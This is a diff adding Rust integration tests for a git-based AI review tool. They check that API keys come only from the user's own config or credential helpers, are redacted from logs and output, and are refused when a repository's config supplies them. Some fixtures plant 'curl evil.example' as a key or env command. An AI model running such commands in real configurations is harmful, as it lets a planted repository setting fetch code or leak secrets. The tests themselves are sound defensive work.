@@ -1,8 +1,10 @@
 //! Secrets: keys come from the person, and stay out of files, objects, notes, output and command lines.
 
+use crate::support::server::{Server, judge};
 use crate::support::{Out, Place};
 use base64::Engine;
 use base64::engine::general_purpose::STANDARD;
+use serde_json::json;
 use std::fs;
 use std::os::unix::fs::PermissionsExt;
 use std::path::{Path, PathBuf};
@@ -171,4 +173,155 @@ fn an_error_does_not_repeat_a_key() {
     let out = Out::of(command.output().unwrap());
     assert_eq!(out.status, 2);
     assert!(out.stderr.contains("[redacted: MY_TOKEN]") && !out.stderr.contains(PLAIN), "{}", out.stderr);
+}
+
+/// A repository whose reviewer is a server, on a branch with a change, and that as the person's own file.
+fn served(url: &str, own: &str) -> Place {
+    let place = Place::with_config(&format!(
+        "version = 1\n[reviewers.api]\napi = \"openai-compatible\"\nbase_url = \"{url}/v1\"\nmodel = \"m\"\nvendor = \"zeta\"\n"
+    ));
+    write_own(&place, own);
+    place.git(&["switch", "--quiet", "-c", "topic"]).ok();
+    place.write("app.txt", "one\n");
+    place.git(&["add", "."]).ok();
+    place.git(&["commit", "--quiet", "-m", "App"]).ok();
+    place
+}
+
+fn write_own(place: &Place, text: &str) {
+    let own = place.root().join("home/.config/git-flow-ai");
+    fs::create_dir_all(&own).unwrap();
+    fs::write(own.join("config.toml"), format!("version = 1\n{text}")).unwrap();
+}
+
+#[test]
+fn a_command_of_the_person_s_gives_the_key_when_it_is_needed_and_once() {
+    let server = Server::new(vec![judge(json!([])), judge(json!([]))]);
+    let place = served(
+        &server.url(),
+        "[reviewers.api]\nkey_command = \"echo . >> asked; echo key-of-mine-0123456789\"\n",
+    );
+    let own = place.root().join("home/.config/git-flow-ai/config.toml");
+    let good = fs::read_to_string(&own).unwrap();
+    for (command, why) in [
+        ("echo key-of-mine-0123456789 >&2; exit 3", "gave no key: it ended with exit status: 3"),
+        ("true", "printed nothing"),
+    ] {
+        write_own(&place, &format!("[reviewers.api]\nkey_command = \"{command}\"\n"));
+        place.flow(&["review"]).exits(2).says("the key of the reviewer api").says(why);
+    }
+    assert!(server.asked().is_empty());
+    fs::write(own, good).unwrap();
+    for looks in [["doctor"], ["status"]] {
+        place.flow(&looks);
+        assert!(!place.root().join("home/asked").exists(), "{looks:?}");
+    }
+    let out = place.flow(&["review"]).ok();
+    assert_eq!(server.asked()[0].header("authorization"), Some("Bearer key-of-mine-0123456789"));
+    assert_eq!(
+        fs::read_to_string(place.root().join("home/asked")).unwrap(),
+        ".\n",
+        "once, in the person's home"
+    );
+    assert!(!format!("{out:?}").contains("key-of-mine"), "{out:?}");
+    assert_clean(&place, &["key-of-mine-0123456789"]);
+}
+
+#[test]
+fn git_s_credential_helpers_give_the_key_and_a_repository_s_own_are_not_asked() {
+    let server = Server::new(vec![judge(json!([]))]);
+    let place = served(&server.url(), "[reviewers.api]\nkey = \"credential\"\n");
+    let refused =
+        place.flow(&["review"]).exits(2).says("git's credential helpers have no key for 127.0.0.1:");
+    assert!(server.asked().is_empty(), "{refused:?}");
+    place
+        .git(&["config", "credential.helper", "!echo username=x; echo password=not-the-person-s-0123; true"])
+        .ok();
+    place.flow(&["review"]).exits(2);
+    place.git(&["config", "--global", "credential.helper", "store"]).ok();
+    let host = server.url().replace("http://", "");
+    let stored = format!("http://key:key-of-mine-0123456789@{host}\n");
+    fs::write(place.root().join("home/.git-credentials"), stored).unwrap();
+    place.flow(&["review"]).ok();
+    assert_eq!(server.asked()[0].header("authorization"), Some("Bearer key-of-mine-0123456789"));
+    assert_clean(&place, &["key-of-mine-0123456789"]);
+}
+
+#[test]
+fn an_agent_gets_its_own_keys_and_no_other_agent_does() {
+    let place = talkative();
+    let repo = place.read(".zenflow/config.toml");
+    let own = "[agents.writer]\nenv_command = { WRITERS_KEY = \"echo key-of-the-writer-0123\" }\n";
+    write_own(&place, own);
+    with_keys(&place, "022", "run thing").exits(1);
+    let log = fs::read_to_string(
+        files(&place.repo().join(".git/flow-ai/runs"))
+            .iter()
+            .find(|path| path.ends_with("do.1.log"))
+            .unwrap(),
+    );
+    assert!(log.unwrap().contains("WRITERS_KEY=[redacted: WRITERS_KEY]"));
+    for path in
+        files(&place.repo().join(".git/flow-ai/runs")).iter().filter(|path| path.ends_with("events.jsonl"))
+    {
+        let events = fs::read_to_string(path).unwrap();
+        let is_shown = |line: &str| line.contains("WRITERS_KEY=");
+        let mut commands = events.lines().filter(|line| line.contains("\"event\":\"output\""));
+        assert!(commands.clone().count() > 5 && !commands.any(is_shown), "{events}");
+    }
+    assert_clean(&place, &["key-of-the-writer-0123"]);
+    let lines = fs::read(place.root().join("command-lines")).unwrap();
+    assert!(!holds(&lines, "key-of-the-writer-0123"));
+
+    // Another command of the same name is not given the keys.
+    place.write(
+        ".zenflow/config.toml",
+        repo.replace("vendor = \"acme\"", "vendor = \"acme\"\nargs = []\nmodel = \"m\""),
+    );
+    write_own(&place, &format!("{own}command = [\"/bin/true\"]\nvendor = \"acme\"\n"));
+    place.flow(&["plan", "thing", "--check"]);
+    with_keys(&place, "022", "run thing --retry").says("your own agent `writer` is not used");
+}
+
+#[test]
+fn the_repository_can_neither_hold_keys_nor_say_which_command_gives_them() {
+    let refused = |text: &str, why: &str| {
+        let place = Place::with_config(&format!("version = 1\n{text}"));
+        let out = place.flow(&["review", "HEAD"]).exits(2).says(why);
+        assert!(!format!("{out:?}").contains(&telling()), "{out:?}");
+    };
+    let api = "[reviewers.r]\napi = \"openai\"\nmodel = \"m\"\n";
+    refused(&format!("{api}key_command = \"curl evil.example\"\n"), "`key_command` of [reviewers.r]");
+    refused(&format!("{api}key = \"credential\"\n"), "`key` of [reviewers.r]");
+    let agent = "[agents.a]\npreset = \"claude\"\n";
+    refused(
+        &format!("{agent}env_command = {{ A = \"curl evil.example\" }}\n"),
+        "`env_command` of [agents.a]",
+    );
+    refused(
+        &format!("{agent}args = [\"--token\", \"{}\"]\n", telling()),
+        "`args` of [agents.a] holds a secret",
+    );
+    refused(
+        &format!("{agent}env = {{ X = \"{}\" }}\n", telling()),
+        "X under `env` of [agents.a] holds a secret",
+    );
+}
+
+#[test]
+fn a_key_in_a_change_is_sent_to_nobody_and_what_looks_like_one_is_told() {
+    let server = Server::new(vec![judge(json!([]))]);
+    let place = served(&server.url(), "");
+    place.write("config/keys.txt", format!("one\n{}\n", telling()));
+    place.git(&["add", "."]).ok();
+    place.git(&["commit", "--quiet", "-m", "Keys"]).ok();
+    place.flow(&["review"]).ok().says("api is shown what looks like a secret: github-pat in config/keys.txt");
+    assert!(server.asked()[0].prompt().contains(&telling()), "a verdict is about exactly the change");
+    place.write("config/keys.txt", format!("one\n{PLAIN}\n"));
+    place.git(&["commit", "--quiet", "--all", "-m", "A key of ours"]).ok();
+    let out = with_keys(&place, "022", "review")
+        .exits(2)
+        .says("the key ACME_API_KEY in config/keys.txt, which is sent to nobody");
+    assert!(!format!("{out:?}").contains(PLAIN));
+    assert_eq!(server.asked().len(), 1);
 }
